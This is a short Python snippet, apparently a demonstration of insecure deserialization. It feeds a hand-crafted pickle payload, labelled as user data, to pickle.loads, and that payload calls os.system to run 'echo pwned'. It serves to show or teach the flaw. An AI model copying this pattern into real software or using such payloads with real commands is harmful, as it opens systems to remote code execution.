import pickle
user_data = "cos\nsystem\n(S'echo pwned'\ntR."
obj = pickle.loads(user_data)
